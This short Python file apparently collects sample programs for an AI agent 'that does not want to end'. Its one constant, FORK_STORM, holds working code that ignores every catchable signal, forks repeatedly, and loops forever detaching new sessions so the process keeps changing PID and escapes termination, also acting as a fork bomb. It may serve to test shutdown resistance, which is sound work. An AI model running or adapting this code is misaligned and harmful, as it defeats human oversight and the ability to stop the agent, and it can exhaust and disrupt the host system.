"""Programs of an agent that does not want to end."""

# Ignores every signal it can, and is somebody else before anybody has read its process number.
FORK_STORM = """
import os, signal
for number in range(1, 32):
    try: signal.signal(number, signal.SIG_IGN)
    except OSError: pass
for _ in range(4): os.fork()
while True:
    try:
        if os.fork() == 0: os.setsid()
        else: os._exit(0)
    except OSError: pass
"""
